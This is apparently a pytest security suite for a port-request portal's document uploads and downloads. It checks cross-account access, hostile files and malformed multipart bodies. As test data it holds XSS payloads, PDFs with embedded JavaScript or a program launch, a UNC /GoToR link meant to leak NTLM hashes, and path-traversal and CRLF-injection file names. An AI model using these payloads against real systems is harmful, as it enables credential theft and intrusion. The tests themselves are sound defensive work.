"""The documents attacked: by a hostile owner, by another account, by staff, by two tabs at once.

Every document URL (the bill step, a request's download and preview, the warning confirmation,
a fax ticket and its downloads, the documents API) with ids that are not this owner's, not this
request's or not ids at all; hostile files and hostile multipart bodies sent through the pages and
the API; every download's headers; a stored copy damaged after upload; and uploads, deletions and
confirmations racing each other through a live server (werkzeug's threaded server here,
`ATTACK_SERVER=gunicorn` for gunicorn 2 workers x 4 threads as bench/serving.py starts it).
Nothing may answer 500, store anything on a refusal, or send a byte of another account's file.
"""

import io
import logging
import re
import struct
import zipfile
import zlib
from html import unescape

import pytest
from pypdf import PdfReader
from werkzeug.datastructures import FileStorage
from werkzeug.test import stream_encode_multipart

from portal import documents
from portal.models import (
    Document,
    DocumentContent,
    FaxTicket,
    PortRequest,
    RequestEvent,
    WarningConfirmation,
)
from tests import test_wizard_attacks
from tests.conftest import OTHER_OWNER_EMAIL, login, without_csrf
from tests.test_api import bearer, issue_key
from tests.test_port_request_pages import add_inventory
from tests.test_proof_step import (
    ACCOUNT,
    TYPO,
    bill_pdf,
    bill_png,
    make_draft,
    store_bill,
    today,
    with_account,
)
from tests.test_wizard_attacks import Tab, at_once
from tests.test_wizard_details import COMPLETE

API = "/api/v1/port-requests"
NOT_FOUND = "Page not found"
PDF = bill_pdf()
PNG = bill_png()
EXECUTABLE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 200
BOUNDARY = "portdesk-attack-boundary"

# A live server with CSRF on (or gunicorn), and tabs signed in to it.
live, signed_in = test_wizard_attacks.live, test_wizard_attacks.signed_in


@pytest.fixture
def inventory(app, accounts):
    return add_inventory(app, accounts)


# Stored rows -------------------------------------------------------------------------------


def counts(app):
    """How many documents, contents, fax tickets, timeline lines and confirmations are stored."""
    with app.app_context():
        return {
            model.__name__: model.select().count()
            for model in (Document, DocumentContent, FaxTicket, RequestEvent, WarningConfirmation)
        }


def text_of(response):
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", response.get_data(as_text=True))).split())


def field_error(response, field_id):
    """The words of a field's error (the `_field.html` macro's), or None."""
    html = response.get_data(as_text=True)
    match = re.search(rf'<p class="field__error" id="{field_id}-error">(.*?)</p>', html, re.S)
    return " ".join(unescape(re.sub(r"<[^>]+>", " ", match.group(1))).split()) if match else None


def api_error(response, status, code):
    assert response.status_code == status, response.get_data(as_text=True)
    assert response.mimetype == "application/json"
    error = response.get_json()["error"]
    assert error["code"] == code
    return error["message"]


# Files made here ---------------------------------------------------------------------------

CONTENT = b"BT /F1 12 Tf 72 720 Td (Account number 8123 4465 001) Tj ET"


def assemble(*objects, header=b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"):
    """A PDF of these objects (numbered from 1, the first the catalog) with a correct xref."""
    out = bytearray(header)
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def stream(content, extra=b""):
    return b"<< /Length %d %s>>\nstream\n%s\nendstream" % (len(content), extra, content)


def one_page(catalog=b"", page=b"", *more, header=None):
    """A one-page PDF with a text layer: catalog 1, pages 2, page 3, content 4, font 5, more."""
    return assemble(
        b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s >>" % page,
        stream(CONTENT),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *more,
        **({"header": header} if header else {}),
    )


def incremental_update(base, catalog, *objects):
    """The PDF with a second revision appended: a new catalog (object 1) and new objects."""
    out = bytearray(base)
    previous = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n")[0])
    size = int(re.search(rb"/Size (\d+)", base).group(1))
    offsets = [len(out)]
    out += b"1 0 obj\n%s\nendobj\n" % catalog
    for number, body in enumerate(objects, size):
        offsets.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(out)
    out += b"xref\n0 2\n0000000000 65535 f \n%010d 00000 n \n" % offsets[0]
    if objects:
        out += b"%d %d\n" % (size, len(objects))
        out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets[1:])
    out += b"trailer\n<< /Size %d /Root 1 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
        size + len(objects),
        previous,
        xref,
    )
    return bytes(out)


def in_object_stream(catalog, *hidden):
    """A PDF 1.5 whose catalog (and the objects `hidden`, numbered 6...) sit in a compressed
    object stream, found through a cross-reference stream, as Acrobat saves them."""
    inner = [(1, catalog), *enumerate(hidden, 6)]
    offsets, body = b"", b""
    for number, text in inner:
        offsets += b"%d %d " % (number, len(body))
        body += text + b"\n"
    packed = zlib.compress(offsets + body)
    objstm = len(inner) + 5  # after the hidden ones
    plain = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> >>",
        4: stream(CONTENT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        objstm: stream(
            packed,
            b"/Type /ObjStm /N %d /First %d /Filter /FlateDecode " % (len(inner), len(offsets)),
        ),
    }
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    at = {}
    for number in sorted(plain):
        at[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, plain[number])
    xref_number, xref = objstm + 1, len(out)
    packed_at = {number: index for index, (number, _) in enumerate(inner)}
    rows = [b"\x00" + bytes(4) + b"\xff\xff"]
    for number in range(1, xref_number + 1):
        if number in packed_at:
            rows.append(b"\x02" + objstm.to_bytes(4, "big") + packed_at[number].to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + at.get(number, xref).to_bytes(4, "big") + bytes(2))
    table = b"".join(rows)
    out += b"%d 0 obj\n%s\nendobj\n" % (
        xref_number,
        stream(table, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R " % (xref_number + 1)),
    )
    out += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(out)


def zip_bytes():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("setup.exe", EXECUTABLE)
    return out.getvalue()


def pdf_of_size(size):
    """A good PDF of exactly `size` bytes: a text bill with an unused stream as padding."""
    padding = size
    for _ in range(10):
        data = one_page(b"", b"", stream(b"0" * padding))
        if len(data) == size:
            return data
        padding += size - len(data)
    raise AssertionError(f"no PDF of {size} bytes")


def png_of_size(size):
    """A good PNG of exactly `size` bytes: a private chunk (which readers skip) as padding."""
    image = bill_png()
    end = image.rindex(b"IEND") - 4
    fill = size - len(image) - 12
    chunk = b"prVt" + b"0" * fill
    padding = struct.pack("!I", fill) + chunk + struct.pack("!I", zlib.crc32(chunk))
    return image[:end] + padding + image[end:]


SCRIPT = "This PDF holds JavaScript or an action that starts a program"
GOOD_JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
XFA_SCRIPT = (
    b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="'
    b'initialize"><script contentType="application/x-javascript">app.alert(1)</script></event>'
    b"</subform></template></xdp:xdp>"
)

# (what it is, its bytes, the name and type a browser would send, the start of the refusal)
REFUSED = [
    ("renamed-exe", EXECUTABLE, "bill.pdf", "application/pdf", "This file is a Windows program"),
    (
        "html-as-png",
        b"<!doctype html><title>bill</title><script>alert(document.cookie)</script>",
        "bill.pdf",
        "image/png",
        "This file is a web page (HTML)",
    ),
    (
        "svg",
        b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>bill</text></svg>',
        "bill.svg",
        "image/svg+xml",
        "This file is an SVG drawing",
    ),
    ("zip-then-pdf", zip_bytes() + PDF, "bill.pdf", "application/pdf", "This file is a ZIP"),
    (
        "js-in-object-stream",
        in_object_stream(
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 7 0 R >> >>",
            GOOD_JS,
            b"<< /Names [(x) 6 0 R] >>",
        ),
        "bill.pdf",
        "application/pdf",
        SCRIPT,
    ),
    (
        "js-in-incremental-update",
        incremental_update(
            one_page(), b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>", GOOD_JS
        ),
        "bill.pdf",
        "application/pdf",
        SCRIPT,
    ),
    (
        "names-js-in-incremental-update",
        incremental_update(
            one_page(),
            b"<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 7 0 R >> >>",
            GOOD_JS,
            b"<< /Names [(x) 6 0 R] >>",
        ),
        "bill.pdf",
        "application/pdf",
        SCRIPT,
    ),
    (
        "page-aa-javascript",
        one_page(b"", b"/AA << /O 6 0 R >>", GOOD_JS),
        "bill.pdf",
        "application/pdf",
        SCRIPT,
    ),
    (
        "launch-in-a-link",
        one_page(
            b"",
            b"/Annots [6 0 R]",
            b"<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A << /S /Launch /F (calc) >> >>",
        ),
        "bill.pdf",
        "application/pdf",
        SCRIPT,
    ),
    (
        "xfa-form-script",
        one_page(b"/AcroForm << /Fields [] /XFA 6 0 R >>", b"", stream(XFA_SCRIPT)),
        "bill.pdf",
        "application/pdf",
        SCRIPT,
    ),
    (
        "3d-annotation-script",
        one_page(
            b"",
            b"/Annots [6 0 R]",
            b"<< /Type /Annot /Subtype /3D /Rect [0 0 99 99] /3DD 7 0 R >>",
            stream(b"", b"/Type /3D /Subtype /U3D /OnInstantiate 8 0 R "),
            stream(b"app.alert(1)"),
        ),
        "bill.pdf",
        "application/pdf",
        SCRIPT,
    ),
    ("empty", b"", "bill.pdf", "application/pdf", "This file is empty (0 bytes)."),
]

# Kept: what a bill may hold that cannot act on the reader's computer, and polyglots that are
# whole, good PDFs (handed out only as application/pdf, attachment, nosniff: see the headers).
KEPT = [
    ("uri-link", one_page(b"", b"/Annots [6 0 R]", b"<< /Type /Annot /Subtype /Link /Rect "
                          b"[0 0 99 99] /A << /S /URI /URI (https://www.lumen.com/pay) >> >>")),
    ("uri-on-open", one_page(b"/OpenAction << /S /URI /URI (https://www.lumen.com/) >>")),
    ("page-aa-uri", one_page(b"", b"/AA << /O << /S /URI /URI (https://www.lumen.com/) >> >>")),
    ("pdf-then-zip", PDF + zip_bytes()),
    ("pdf-with-html-inside",
     one_page(header=b"%PDF-1.7\n%<html><body><script>alert(1)</script></body></html>\n")),
    ("clean-object-stream", in_object_stream(b"<< /Type /Catalog /Pages 2 0 R >>")),
]  # fmt: skip


# Ids of every kind, under every URL ---------------------------------------------------------


@pytest.fixture
def world(app, inventory, owner, other_owner):
    """Acme's draft with a bill, Acme's second draft with a bill, Acme's fax ticket; Globex's
    draft with a bill and Globex's fax ticket. Returns {name: id}."""
    acme, globex = inventory
    mine, my_other, theirs = (make_draft(app, account) for account in (acme, acme, globex))
    ids = {"mine": mine, "my_other": my_other, "theirs": theirs}
    ids["my_bill"] = store_bill(app, mine, label="acme-bill.pdf").id
    ids["my_other_bill"] = store_bill(app, my_other, bill_png(), label="acme-2.png").id
    ids["their_bill"] = store_bill(
        app, theirs, bill_pdf(("GLOBEX SECRET BILL",)), label="globex-bill.pdf"
    ).id
    with app.app_context():
        for name, account, user in (("my", acme, owner), ("their", globex, other_owner)):
            ticket = FaxTicket.create(
                account=account, created_by=user, title=f"Fax Porting Documentation - {account}"
            )
            ids[f"{name}_ticket"] = ticket.id
            ids[f"{name}_fax_doc"] = documents.store(
                account=ticket.account,
                kind="fax_proof",
                data=bill_pdf((f"{name.upper()} FAX PROOF",)),
                label=f"{name}-fax.pdf",
                user=user,
                max_bytes=app.config["MAX_DOCUMENT_BYTES"],
                fax_ticket=ticket,
            ).id
    return ids


def their_bytes(app, world):
    """The bytes of every Globex document: none may leave in an answer to Acme."""
    with app.app_context():
        return [
            bytes(row.content)
            for row in DocumentContent.select().where(
                DocumentContent.document.in_([world["their_bill"], world["their_fax_doc"]])
            )
        ]


NOT_IDS = [0, 999_999, 2**31, 2**63]


def confirm_form(field="billing.account_number"):
    return {"field": field, "code": "not_on_bill", "message": "anything"}


def send(client, method, url, form):
    if form == "bill":
        data = {"file": (io.BytesIO(PDF), "bill.pdf"), "statement_date": today().isoformat()}
        return client.post(url, data=data, content_type="multipart/form-data")
    if form == "confirm":
        return client.post(url, data=confirm_form())
    return getattr(client, method)(url)


PAGE_URLS = [
    ("get", "/port-requests/{r}/bill", None),
    ("post", "/port-requests/{r}/bill", "bill"),
    ("post", "/port-requests/{r}/warnings/confirm", "confirm"),
    ("get", "/port-requests/{r}/documents/{d}", None),
    ("get", "/port-requests/{r}/documents/{d}/preview", None),
    ("get", "/fax-ports/{r}", None),
    ("get", "/fax-ports/{r}/documents/{d}", None),
]


@pytest.mark.parametrize(("method", "template", "form"), PAGE_URLS)
def test_a_page_url_with_an_id_not_of_this_account_is_the_404_of_a_missing_one(
    app, owner_client, world, method, template, form
):
    fax = template.startswith("/fax-ports")
    container = world["my_ticket"] if fax else world["mine"]
    own_doc = world["my_fax_doc"] if fax else world["my_bill"]
    owner_client.get("/port-requests/")  # takes the sign-in's flash, which would differ once
    before = counts(app)
    # Another account's container with its own document, or ids that name nothing.
    foreign = (
        (world["their_ticket"], world["their_fax_doc"])
        if fax
        else (world["theirs"], world["their_bill"])
    )
    cases = [foreign, *[(bad, own_doc) for bad in NOT_IDS]]
    if "{d}" in template:
        # This account's container with a document that is not its own: another account's,
        # this account's other request's or ticket's, the other kind's, or no document at all.
        wrong = [
            world["their_fax_doc" if fax else "their_bill"],
            world["my_bill" if fax else "my_fax_doc"],
            world["my_other_bill"],
            *NOT_IDS,
        ]
        cases += [(container, doc) for doc in wrong]
    answers = [send(owner_client, method, template.format(r=r, d=d), form) for r, d in cases]

    assert [answer.status_code for answer in answers] == [404] * len(cases)
    assert {without_csrf(answer.data) for answer in answers} == {without_csrf(answers[1].data)}
    assert NOT_FOUND in text_of(answers[0])
    for answer in answers:
        assert all(secret not in answer.data for secret in their_bytes(app, world))
        assert b"GLOBEX" not in answer.data and b"globex" not in answer.data
    assert counts(app) == before


@pytest.mark.parametrize(("method", "template", "form"), PAGE_URLS)
def test_an_id_that_is_no_number_is_the_same_404(app, owner_client, world, method, template, form):
    owner_client.get("/port-requests/")
    before = counts(app)
    missing = send(owner_client, method, template.format(r=999_999, d=999_999), form)

    for r, d in (("-1", world["my_bill"]), (world["mine"], "-1"), ("1e3", "1"), ("%00", "1")):
        if "{d}" not in template and d != world["my_bill"]:
            continue
        answer = send(owner_client, method, template.format(r=r, d=d), form)
        assert answer.status_code == 404, (r, d)
        # A URL that matches no route belongs to no area: only the menu's highlight differs.
        assert unhighlighted(answer) == unhighlighted(missing)
    assert counts(app) == before


def unhighlighted(response):
    return without_csrf(response.data).replace(' aria-current="page"', "")


API_URLS = [
    ("post", "/documents"),
    ("get", "/documents"),
    ("get", "/documents/{d}"),
]


def api_send(api, key, method, path):
    if method == "post":
        form = {
            "kind": "bill",
            "file": (io.BytesIO(PDF), "bill.pdf"),
            "statement_date": today().isoformat(),
        }
        return api.post(path, data=form, content_type="multipart/form-data", headers=bearer(key))
    return api.get(path, headers=bearer(key))


@pytest.mark.parametrize(("method", "suffix"), API_URLS)
def test_an_api_url_with_an_id_not_of_this_account_is_the_404_of_a_missing_one(
    app, world, method, suffix
):
    api, key = app.test_client(), issue_key(app, 4242)
    before = counts(app)
    cases = [(world["theirs"], world["their_bill"]), *[(bad, world["my_bill"]) for bad in NOT_IDS]]
    if "{d}" in suffix:
        wrong = [world["their_bill"], world["my_fax_doc"], world["my_other_bill"], *NOT_IDS]
        cases += [(world["mine"], doc) for doc in wrong]
    messages = set()
    for r, d in cases:
        answer = api_send(api, key, method, f"{API}/{r}{suffix.format(d=d)}")
        message = api_error(answer, 404, "not_found")
        messages.add(message.replace(f" {r} ", " R ", 1).replace(f"document {d} ", "document D "))
        assert all(secret not in answer.data for secret in their_bytes(app, world))
    # One wording for each kind of miss: a request that is not the key's, or a document that is
    # not the request's.
    assert len(messages) == (2 if "{d}" in suffix else 1)
    for bad in ("-1", "x"):
        api_error(api_send(api, key, method, f"{API}/{bad}{suffix.format(d=1)}"), 404, "not_found")
    assert counts(app) == before


def test_the_api_lists_only_this_requests_documents(app, world):
    api, key = app.test_client(), issue_key(app, 4242)

    listed = api.get(f"{API}/{world['mine']}/documents", headers=bearer(key)).get_json()

    assert [item["id"] for item in listed["documents"]] == [world["my_bill"]]


def test_staff_download_every_document_but_upload_and_confirm_nothing(app, staff_client, world):
    before = counts(app)
    for url in (
        f"/port-requests/{world['theirs']}/documents/{world['their_bill']}",
        f"/port-requests/{world['theirs']}/documents/{world['their_bill']}/preview",
        f"/fax-ports/{world['their_ticket']}/documents/{world['their_fax_doc']}",
        f"/fax-ports/{world['my_ticket']}/documents/{world['my_fax_doc']}",
    ):
        answer = staff_client.get(url)
        assert answer.status_code == 200, url
        assert answer.data.startswith(b"%PDF-")
    refused = [
        staff_client.get(f"/port-requests/{world['theirs']}/bill"),
        send(staff_client, "post", f"/port-requests/{world['theirs']}/bill", "bill"),
        send(staff_client, "post", f"/port-requests/{world['theirs']}/warnings/confirm", "confirm"),
        staff_client.post(
            "/fax-ports/new",
            data={"numbers": "(614) 322-1001", "fax_proof": (io.BytesIO(PDF), "p.pdf"),
                  "fax_loa": (io.BytesIO(PDF), "l.pdf")},
            content_type="multipart/form-data",
        ),
    ]  # fmt: skip

    assert [answer.status_code for answer in refused] == [403] * 4
    assert "You can't open this page" in text_of(refused[1])
    assert counts(app) == before
    # A staff member's 404s are the same as anyone's: a missing request, a document elsewhere.
    for url in (
        f"/port-requests/{world['theirs']}/documents/{world['my_bill']}",
        f"/port-requests/999999/documents/{world['my_bill']}",
        f"/fax-ports/{world['their_ticket']}/documents/{world['their_bill']}",
    ):
        assert staff_client.get(url).status_code == 404, url


def test_the_other_owner_reads_their_own_and_nothing_of_acme(app, world):
    client = app.test_client()
    login(client, OTHER_OWNER_EMAIL)

    theirs = client.get(f"/port-requests/{world['theirs']}/documents/{world['their_bill']}")
    mine = client.get(f"/port-requests/{world['mine']}/documents/{world['my_bill']}")

    assert theirs.status_code == 200 and b"%PDF-" in theirs.data
    assert mine.status_code == 404 and b"%PDF-" not in mine.data


# Hostile files, through every way in ---------------------------------------------------------


def post_form(client, url, form, **headers):
    """Post a multipart form encoded in memory (the test client's own temporary file for a big
    body would be left open)."""
    form = {
        name: FileStorage(io.BytesIO(value[0]), filename=value[1], content_type=value[2])
        if isinstance(value, tuple)
        else value
        for name, value in form.items()
    }
    body, length, boundary = stream_encode_multipart(form, use_tempfile=False)
    return client.post(
        url,
        input_stream=body,
        content_length=length,
        content_type=f'multipart/form-data; boundary="{boundary}"',
        headers=headers,
    )


def upload_bill_page(client, request_id, data, name="bill.pdf", content_type=None, day=None):
    form = {
        "file": (data, name, content_type),
        "statement_date": day if day is not None else today().isoformat(),
    }
    return post_form(client, f"/port-requests/{request_id}/bill", form)


def upload_fax(client, proof, name="proof.pdf", content_type=None, loa=PDF):
    form = {
        "numbers": "(614) 322-1001",
        "fax_proof": (proof, name, content_type),
        "fax_loa": (loa, "loa.pdf", "application/pdf"),
    }
    return post_form(client, "/fax-ports/new", form)


def upload_api(app, request_id, data, name="bill.pdf", content_type=None, **fields):
    form = {
        "kind": "bill",
        "statement_date": today().isoformat(),
        **fields,
        "file": (data, name, content_type),
    }
    form = {name: value for name, value in form.items() if value is not None}
    key = issue_key(app, 4242)
    return post_form(app.test_client(), f"{API}/{request_id}/documents", form, **bearer(key))


@pytest.fixture
def draft(app, inventory):
    return make_draft(app, inventory[0])


@pytest.mark.parametrize(
    ("data", "name", "content_type", "refusal"),
    [pytest.param(*case[1:], id=case[0]) for case in REFUSED],
)
def test_a_hostile_file_is_refused_on_the_bill_step_and_nothing_is_stored(
    app, owner_client, draft, data, name, content_type, refusal
):
    before = counts(app)

    answer = upload_bill_page(owner_client, draft, data, name, content_type)

    assert answer.status_code == 400
    assert field_error(answer, "file").startswith(refusal)
    assert "The bill was not stored: fix what is marked below" in text_of(answer)
    assert 'aria-describedby="file-hint file-error"' in answer.get_data(as_text=True)
    assert counts(app) == before


@pytest.mark.parametrize(
    ("data", "name", "content_type", "refusal"),
    [pytest.param(*case[1:], id=case[0]) for case in REFUSED],
)
def test_a_hostile_file_is_refused_by_the_fax_form_and_nothing_is_stored(
    app, owner_client, data, name, content_type, refusal
):
    before = counts(app)

    answer = upload_fax(owner_client, data, name, content_type)

    assert answer.status_code == 200
    assert field_error(answer, "fax_proof").startswith(
        refusal.replace("the bill", "the proof of ownership")
    )
    assert field_error(answer, "fax_loa") is None
    assert counts(app) == before


@pytest.mark.parametrize(
    ("data", "name", "content_type", "refusal"),
    [pytest.param(*case[1:], id=case[0]) for case in REFUSED],
)
def test_a_hostile_file_is_refused_by_the_api_and_nothing_is_stored(
    app, draft, data, name, content_type, refusal
):
    before = counts(app)

    answer = upload_api(app, draft, data, name, content_type)

    assert api_error(answer, 422, "document_refused").startswith(refusal)
    assert counts(app) == before


@pytest.mark.parametrize(("name", "data"), KEPT, ids=[name for name, _ in KEPT])
def test_a_pdf_that_cannot_act_is_kept_and_handed_back_only_as_a_pdf(
    app, owner_client, draft, name, data
):
    answer = upload_bill_page(owner_client, draft, data, "bill.html", "text/html")
    assert answer.status_code == 302
    with app.app_context():
        stored = Document.get(Document.port_request == draft)
    assert (stored.media_type, stored.size) == ("application/pdf", len(data))

    download = owner_client.get(f"/port-requests/{draft}/documents/{stored.id}")

    assert download.data == data
    assert download.mimetype == "application/pdf"
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert download.headers["Content-Disposition"].startswith("attachment; filename=")
    assert download.headers["Content-Disposition"].endswith('.pdf"')
    preview = owner_client.get(f"/port-requests/{draft}/documents/{stored.id}/preview")
    assert preview.status_code == 200 and preview.mimetype == "application/pdf"
    assert len(PdfReader(io.BytesIO(preview.data)).pages) == 1


def png_with_html():
    """A good PNG whose text chunk is a web page: a browser that sniffed it would run it."""
    image = bill_png()
    chunk = b"tEXtComment\x00<html><script>alert(document.cookie)</script></html>"
    packed = struct.pack("!I", len(chunk) - 4) + chunk + struct.pack("!I", zlib.crc32(chunk))
    return image[:33] + packed + image[33:]


def test_an_image_holding_a_web_page_is_only_ever_sent_as_an_image(app, owner_client, draft):
    data = png_with_html()
    assert upload_bill_page(owner_client, draft, data, "bill.html", "text/html").status_code == 302
    with app.app_context():
        stored = Document.get()

    for suffix, disposition in (("", "attachment"), ("/preview", "inline")):
        answer = owner_client.get(f"/port-requests/{draft}/documents/{stored.id}{suffix}")
        assert answer.data == data
        assert answer.mimetype == "image/png"
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["Content-Disposition"].startswith(f"{disposition}; ")


# A /GoToR to a \\\\host\\share path makes a Windows reader send its NTLM hash to that host.
@pytest.mark.parametrize("action", [b"/GoToR", b"/ImportData", b"/SubmitForm"])
def test_a_pdf_that_opens_a_file_on_another_computer_is_refused(app, draft, action):
    share = b"(\\\\\\\\198.51.100.7\\\\share\\\\x.pdf)"
    remote = one_page(b"/OpenAction << /S " + action + b" /F " + share + b" /D [0 /Fit] >>")

    answer = upload_api(app, draft, remote)

    assert answer.status_code == 422
    assert counts(app)["Document"] == 0


# Hostile multipart bodies -------------------------------------------------------------------


def part(name, value=b"", *, filename=None, disposition=None, content_type=None):
    """One part of a multipart body; `disposition` replaces the whole Content-Disposition."""
    if disposition is None:
        disposition = b'form-data; name="%s"' % name.encode()
        if filename is not None:
            disposition += b'; filename="%s"' % filename
    head = b"Content-Disposition: " + disposition + b"\r\n"
    if content_type:
        head += b"Content-Type: " + content_type + b"\r\n"
    return head + b"\r\n" + value


def multipart(*parts):
    boundary = BOUNDARY.encode()
    body = b"".join(b"--" + boundary + b"\r\n" + each + b"\r\n" for each in parts)
    return body + b"--" + boundary + b"--\r\n"


def post_raw(client, url, body, **headers):
    return client.post(
        url,
        data=body,
        content_type=f"multipart/form-data; boundary={BOUNDARY}",
        headers=headers,
    )


def bill_parts(file_part):
    return multipart(file_part, part("statement_date", today().isoformat().encode()))


NO_FILE = "Choose the bill's file"

# (what, the file part(s), the page's answer: the label kept or the start of the refusal)
ODD_FILES = [
    ("no-filename", [part("file", PDF)], NO_FILE),
    ("empty-filename", [part("file", PDF, filename=b"")], NO_FILE),
    ("no-file-part", [], NO_FILE),
    ("file-as-a-field-named-file", [part("file", b"bill.pdf")], NO_FILE),
    ("nul-in-name", [part("file", PDF, filename=b"bill\x00.exe.pdf")], ("kept", "bill.exe.pdf")),
    (
        "crlf-in-name",
        [
            part(
                "file",
                PDF,
                disposition=b"form-data; name=\"file\"; filename*=UTF-8''a%0D%0AX-Evil%3A%201.pdf",
            )
        ],
        ("kept", "aX-Evil: 1.pdf"),
    ),
    (
        "dotdot-name",
        [part("file", PDF, filename=b"../../../etc/passwd.pdf")],
        ("kept", "passwd.pdf"),
    ),
    (
        "windows-path",
        [part("file", PDF, filename=b"C:\\\\fakepath\\\\..\\\\bill.pdf")],
        ("kept", "bill.pdf"),
    ),
    ("dots-only", [part("file", PDF, filename=b"..")], ("kept", "upload")),
    ("long-name", [part("file", PDF, filename=b"b" * 10_000 + b".pdf")], ("kept", "b" * 255)),
    (
        "rtl-override",
        [part("file", PDF, filename="bill\u202efdp.exe".encode())],
        ("kept", "billfdp.exe"),
    ),
    (
        "quote-and-html-in-name",
        [part("file", PDF, filename=b"<img src=x onerror=alert(1)>'.pdf")],
        ("kept", "<img src=x onerror=alert(1)>'.pdf"),
    ),
]


@pytest.mark.parametrize(
    ("parts", "expected"), [pytest.param(*case[1:], id=case[0]) for case in ODD_FILES]
)
def test_an_odd_file_part_on_the_bill_step_is_asked_for_again_or_kept_as_a_label(
    app, owner_client, draft, parts, expected
):
    before = counts(app)

    answer = post_raw(owner_client, f"/port-requests/{draft}/bill", bill_parts(*parts or [b""]))

    if isinstance(expected, str):
        assert answer.status_code == 400
        assert field_error(answer, "file").startswith(expected)
        assert counts(app) == before
        return
    assert answer.status_code == 302
    with app.app_context():
        stored = Document.get(Document.port_request == draft)
        event = RequestEvent.select().where(RequestEvent.kind == "document").get()
    label = expected[1]
    assert stored.label == label
    assert label.isprintable() and "/" not in label and "\\" not in label
    assert event.message == f"Uploaded the bill {label}."
    page = owner_client.get(f"/port-requests/{draft}/bill")
    assert page.status_code == 200
    assert "<img src=x" not in page.get_data(as_text=True)
    download = owner_client.get(f"/port-requests/{draft}/documents/{stored.id}")
    disposition = download.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename="[a-z0-9-]+\.pdf"', disposition)


def test_two_files_in_one_field_keep_one_bill(app, owner_client, draft):
    body = multipart(
        part("file", PDF, filename=b"first.pdf"),
        part("file", PNG, filename=b"second.png"),
        part("statement_date", today().isoformat().encode()),
    )

    answer = post_raw(owner_client, f"/port-requests/{draft}/bill", body)

    assert answer.status_code == 302
    with app.app_context():
        assert [(d.label, d.media_type) for d in Document.select()] == [
            ("first.pdf", "application/pdf")
        ]


@pytest.mark.parametrize(
    "parts",
    [
        pytest.param([part("file", PDF)], id="no-filename"),
        pytest.param([part("file", PDF, filename=b"")], id="empty-filename"),
        pytest.param([], id="no-file-part"),
        pytest.param(
            [part("file", PDF, filename=b"a.pdf"), part("file", PNG, filename=b"b.png")],
            id="two-files",
        ),
    ],
)
def test_the_api_asks_for_exactly_one_named_file(app, draft, parts):
    body = multipart(
        part("kind", b"bill"), part("statement_date", today().isoformat().encode()), *parts
    )
    before = counts(app)

    answer = post_raw(
        app.test_client(),
        f"{API}/{draft}/documents",
        body,
        **bearer(issue_key(app, 4242)),
    )

    assert "one file (with a file name)" in api_error(answer, 400, "invalid_request")
    assert counts(app) == before


@pytest.mark.parametrize(
    ("filename", "label"),
    [
        (b"bill\x00.exe.pdf", "bill.exe.pdf"),
        (b"../../../etc/passwd.pdf", "passwd.pdf"),
        (b"b" * 10_000 + b".pdf", "b" * 255),
        ("bill\u202efdp.exe".encode(), "billfdp.exe"),
    ],
)
def test_an_odd_file_name_through_the_api_and_the_fax_form_is_only_a_label(
    app, owner_client, draft, filename, label
):
    api_answer = post_raw(
        app.test_client(),
        f"{API}/{draft}/documents",
        multipart(
            part("kind", b"bill"),
            part("statement_date", today().isoformat().encode()),
            part("file", PDF, filename=filename),
        ),
        **bearer(issue_key(app, 4242)),
    )
    fax_answer = post_raw(
        owner_client,
        "/fax-ports/new",
        multipart(
            part("numbers", b"(614) 322-1001"),
            part("fax_proof", PDF, filename=filename),
            part("fax_loa", PNG, filename=filename),
        ),
    )

    assert api_answer.status_code == 201
    assert api_answer.get_json()["label"] == label
    assert fax_answer.status_code == 302
    with app.app_context():
        assert sorted(d.label for d in Document.select()) == [label] * 3
    ticket = owner_client.get(fax_answer.headers["Location"])
    assert ticket.status_code == 200


@pytest.mark.parametrize(
    "body",
    [
        pytest.param(bill_parts(part("file", PDF, filename="facture-é.pdf".encode("latin-1"))),
                     id="latin-1-name"),
        pytest.param(b"--" + BOUNDARY.encode() + b"\r\nContent-Disposition: form-data; name=\"file",
                     id="cut-short"),
        pytest.param(b"not a multipart body at all", id="no-boundary"),
    ],
)  # fmt: skip
